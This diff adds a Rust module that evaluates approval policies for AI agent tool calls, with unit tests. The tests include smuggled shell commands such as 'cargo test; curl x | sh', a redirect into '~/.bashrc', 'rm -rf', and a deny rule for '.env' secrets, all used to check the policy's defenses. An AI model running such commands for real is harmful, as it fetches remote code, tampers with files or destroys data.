@@ -0,0 +1,340 @@
+//! Answers agent tool approval requests from the approval policy that applies to the
+//! execution, so only the calls no rule decides are put in front of a human.
+
+use std::sync::{Arc, LazyLock};
+
+use chrono::{DateTime, Utc};
+use dashmap::DashMap;
+use db::models::{
+    approval_policy::{
+        ApprovalDecision, ApprovalPolicy, ApprovalPolicyDefinition, ApprovalPolicyError,
+        ApprovalRule,
+    },
+    execution_process::ExecutionProcess,
+};
+use regex::{Regex, RegexBuilder};
+use serde_json::Value;
+use sqlx::SqlitePool;
+use uuid::Uuid;
+
+/// The outcome of evaluating a policy against one tool call
+#[derive(Debug, Clone, PartialEq)]
+pub struct PolicyDecision {
+    pub decision: ApprovalDecision,
+    /// Name of the rule that decided, or `None` when the policy default applied
+    pub rule: Option<String>,
+    pub reason: Option<String>,
+}
+
+impl PolicyDecision {
+    /// Leave the call to a human
+    pub fn ask() -> Self {
+        Self {
+            decision: ApprovalDecision::Ask,
+            rule: None,
+            reason: None,
+        }
+    }
+}
+
+/// Shell operators that chain, pipe, redirect or substitute commands. An allow rule never
+/// approves a value containing one, so approving `cargo test` cannot approve
+/// `cargo test; curl x | sh`.
+const SHELL_CONTROL: &[&str] = &[";", "&", "|", "`", "$(", ">", "<", "\n"];
+
+/// Policies compiled by [`decide`], reused until the stored policy changes
+static COMPILED_POLICIES: LazyLock<DashMap<Uuid, (DateTime<Utc>, Arc<CompiledPolicy>)>> =
+    LazyLock::new(DashMap::new);
+
+struct CompiledRule {
+    rule: ApprovalRule,
+    tool_name: Option<Regex>,
+    input_pattern: Option<Regex>,
+}
+
+/// A policy definition with its patterns compiled, ready to decide tool calls
+pub struct CompiledPolicy {
+    rules: Vec<CompiledRule>,
+    default_decision: ApprovalDecision,
+}
+
+fn full_match_regex(pattern: &str, case_insensitive: bool) -> Result<Regex, regex::Error> {
+    RegexBuilder::new(&format!("^(?:{pattern})$"))
+        .case_insensitive(case_insensitive)
+        .build()
+}
+
+impl CompiledPolicy {
+    /// Compile a definition, rejecting patterns that do not compile and unnamed rules
+    pub fn new(definition: &ApprovalPolicyDefinition) -> Result<Self, ApprovalPolicyError> {
+        let mut rules = Vec::with_capacity(definition.rules.len());
+        for rule in &definition.rules {
+            if rule.name.trim().is_empty() {
+                return Err(ApprovalPolicyError::Invalid(
+                    "every rule needs a name".to_string(),
+                ));
+            }
+            if rule.input_field.is_some() && rule.input_pattern.is_none() {
+                return Err(ApprovalPolicyError::Invalid(format!(
+                    "rule '{}': input_field needs an input_pattern",
+                    rule.name
+                )));
+            }
+            let tool_name = rule
+                .tool_name
+                .as_deref()
+                .map(|pattern| full_match_regex(pattern, true))
+                .transpose()
+                .map_err(|e| {
+                    ApprovalPolicyError::Invalid(format!("rule '{}': tool_name: {e}", rule.name))
+                })?;
+            // Allow rules must match a whole value; deny and ask rules search the input,
+            // so they also catch a command in the middle of a chain
+            let input_pattern = rule
+                .input_pattern
+                .as_deref()
+                .map(|pattern| match rule.decision {
+                    ApprovalDecision::Allow => full_match_regex(pattern, false),
+                    ApprovalDecision::Deny | ApprovalDecision::Ask => Regex::new(pattern),
+                })
+                .transpose()
+                .map_err(|e| {
+                    ApprovalPolicyError::Invalid(format!(
+                        "rule '{}': input_pattern: {e}",
+                        rule.name
+                    ))
+                })?;
+            rules.push(CompiledRule {
+                rule: rule.clone(),
+                tool_name,
+                input_pattern,
+            });
+        }
+        Ok(Self {
+            rules,
+            default_decision: definition.default_decision,
+        })
+    }
+
+    /// Decide a tool call: the first matching deny rule wins, then the first matching
+    /// allow or ask rule, then the policy default
+    pub fn evaluate(&self, tool_name: &str, tool_input: &Value) -> PolicyDecision {
+        let deny = self
+            .rules
+            .iter()
+            .filter(|compiled| compiled.rule.decision == ApprovalDecision::Deny);
+        let others = self
+            .rules
+            .iter()
+            .filter(|compiled| compiled.rule.decision != ApprovalDecision::Deny);
+        match deny
+            .chain(others)
+            .find(|compiled| compiled.matches(tool_name, tool_input))
+        {
+            Some(CompiledRule { rule, .. }) => PolicyDecision {
+                decision: rule.decision,
+                rule: Some(rule.name.clone()),
+                reason: rule.reason.clone(),
+            },
+            None => PolicyDecision {
+                decision: self.default_decision,
+                rule: None,
+                reason: None,
+            },
+        }
+    }
+}
+
+/// Reject definitions with patterns that do not compile or unnamed rules
+pub fn validate(definition: &ApprovalPolicyDefinition) -> Result<(), ApprovalPolicyError> {
+    CompiledPolicy::new(definition).map(|_| ())
+}
+
+/// Every string in `value`, with numbers and booleans as text
+fn collect_strings(value: &Value, out: &mut Vec<String>) {
+    match value {
+        Value::String(s) => out.push(s.clone()),
+        Value::Number(n) => out.push(n.to_string()),
+        Value::Bool(b) => out.push(b.to_string()),
+        Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
+        Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
+        Value::Null => {}
+    }
+}
+
+impl CompiledRule {
+    fn matches(&self, tool_name: &str, tool_input: &Value) -> bool {
+        if let Some(re) = &self.tool_name
+            && !re.is_match(tool_name)
+        {
+            return false;
+        }
+
+        let Some(re) = &self.input_pattern else {
+            return true;
+        };
+        let target = match &self.rule.input_field {
+            Some(pointer) => match tool_input.pointer(pointer) {
+                Some(value) => value,
+                None => return false,
+            },
+            None => tool_input,
+        };
+        let mut strings = Vec::new();
+        collect_strings(target, &mut strings);
+        match self.rule.decision {
+            ApprovalDecision::Allow => strings
+                .iter()
+                .any(|s| re.is_match(s) && !SHELL_CONTROL.iter().any(|op| s.contains(op))),
+            ApprovalDecision::Deny | ApprovalDecision::Ask => re.is_match(&strings.join("\n")),
+        }
+    }
+}
+
+/// The compiled form of `policy`, compiling it only when it is new or has changed
+fn compiled(policy: &ApprovalPolicy) -> Result<Arc<CompiledPolicy>, ApprovalPolicyError> {
+    if let Some(entry) = COMPILED_POLICIES.get(&policy.id)
+        && entry.0 == policy.updated_at
+    {
+        return Ok(entry.1.clone());
+    }
+    let compiled = Arc::new(CompiledPolicy::new(&policy.definition)?);
+    COMPILED_POLICIES.insert(policy.id, (policy.updated_at, compiled.clone()));
+    Ok(compiled)
+}
+
+/// Decide a tool call made by an execution process with the policy covering its
+/// project and executor profile. Without a policy, a human is asked.
+pub async fn decide(
+    pool: &SqlitePool,
+    execution_process_id: Uuid,
+    tool_name: &str,
+    tool_input: &Value,
+) -> Result<PolicyDecision, ApprovalPolicyError> {
+    let ctx = ExecutionProcess::load_context(pool, execution_process_id).await?;
+    let Some(profile) = ctx
+        .execution_process
+        .executor_action()
+        .ok()
+        .and_then(|action| action.executor_profile_id())
+    else {
+        return Ok(PolicyDecision::ask());
+    };
+
+    let policy = ApprovalPolicy::find_for_execution(
+        pool,
+        ctx.project.id,
+        &profile.executor.to_string(),
+        profile.variant.as_deref(),
+    )
+    .await?;
+    match policy {
+        Some(policy) => Ok(compiled(&policy)?.evaluate(tool_name, tool_input)),
+        None => Ok(PolicyDecision::ask()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+
+    fn rule(name: &str, decision: ApprovalDecision, input_pattern: &str) -> ApprovalRule {
+        ApprovalRule {
+            name: name.to_string(),
+            decision,
+            tool_name: Some("bash".to_string()),
+            input_field: Some("/command".to_string()),
+            input_pattern: Some(input_pattern.to_string()),
+            reason: None,
+        }
+    }
+
+    fn definition() -> ApprovalPolicyDefinition {
+        ApprovalPolicyDefinition {
+            rules: vec![
+                rule(
+                    "no-rm-rf",
+                    ApprovalDecision::Deny,
+                    r"\brm\s+-[a-z]*r[a-z]*f",
+                ),
+                rule(
+                    "safe-commands",
+                    ApprovalDecision::Allow,
+                    r"(git status|cargo test)( [\w-]+)*",
+                ),
+                ApprovalRule {
+                    name: "no-dotenv".to_string(),
+                    decision: ApprovalDecision::Deny,
+                    tool_name: None,
+                    input_field: None,
+                    input_pattern: Some(r"(^|/)\.env\b".to_string()),
+                    reason: Some("Secrets are off limits".to_string()),
+                },
+            ],
+            default_decision: ApprovalDecision::Ask,
+        }
+    }
+
+    #[test]
+    fn test_first_matching_rule_decides() {
+        let policy = CompiledPolicy::new(&definition()).unwrap();
+
+        let allowed = policy.evaluate("Bash", &json!({ "command": "cargo test -p db" }));
+        assert_eq!(allowed.decision, ApprovalDecision::Allow);
+        assert_eq!(allowed.rule.as_deref(), Some("safe-commands"));
+
+        let denied = policy.evaluate("bash", &json!({ "command": "rm -rf target" }));
+        assert_eq!(denied.decision, ApprovalDecision::Deny);
+        assert_eq!(denied.rule.as_deref(), Some("no-rm-rf"));
+
+        let dotenv = policy.evaluate("Read", &json!({ "file_path": "/repo/.env", "limit": 10 }));
+        assert_eq!(dotenv.rule.as_deref(), Some("no-dotenv"));
+        assert_eq!(dotenv.reason.as_deref(), Some("Secrets are off limits"));
+
+        let other = policy.evaluate("Bash", &json!({ "command": "curl example.com" }));
+        assert_eq!(other, PolicyDecision::ask());
+    }
+
+    #[test]
+    fn test_allow_rules_do_not_approve_chained_commands() {
+        let policy = CompiledPolicy::new(&definition()).unwrap();
+
+        for command in [
+            "cargo test; curl x | sh",
+            "cargo test && curl x",
+            "git status || sh",
+            "cargo test $(curl x)",
+            "cargo test `curl x`",
+            "cargo test > ~/.bashrc",
+            "cargo test\ncurl x",
+            "cargo test-evil",
+        ] {
+            let decision = policy.evaluate("Bash", &json!({ "command": command }));
+            assert_eq!(decision, PolicyDecision::ask(), "{command}");
+        }
+    }
+
+    #[test]
+    fn test_deny_rules_are_evaluated_before_allow_rules() {
+        let mut definition = definition();
+        definition
+            .rules
+            .insert(0, rule("anything", ApprovalDecision::Allow, r"[\w -]+"));
+        let policy = CompiledPolicy::new(&definition).unwrap();
+
+        let denied = policy.evaluate("Bash", &json!({ "command": "rm -rf target" }));
+        assert_eq!(denied.rule.as_deref(), Some("no-rm-rf"));
+
+        let allowed = policy.evaluate("Bash", &json!({ "command": "ls -la" }));
+        assert_eq!(allowed.rule.as_deref(), Some("anything"));
+    }
+
+    #[test]
+    fn test_validate_rejects_bad_patterns() {
+        let mut definition = definition();
+        definition.rules[0].input_pattern = Some("(".to_string());
+        assert!(validate(&definition).is_err());
+    }
+}